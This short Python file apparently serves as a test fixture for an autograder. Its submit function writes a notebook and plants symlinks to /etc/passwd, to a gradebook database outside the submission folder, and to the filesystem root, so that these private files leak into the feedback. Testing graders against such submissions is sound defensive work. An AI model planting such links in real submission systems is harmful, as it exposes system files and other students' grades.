"""Hands in links to private files, to be copied into the feedback."""


def submit(folder, content):
    (folder / "attention.ipynb").write_bytes(content)
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "gradebook.txt").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "everything").symlink_to("/")
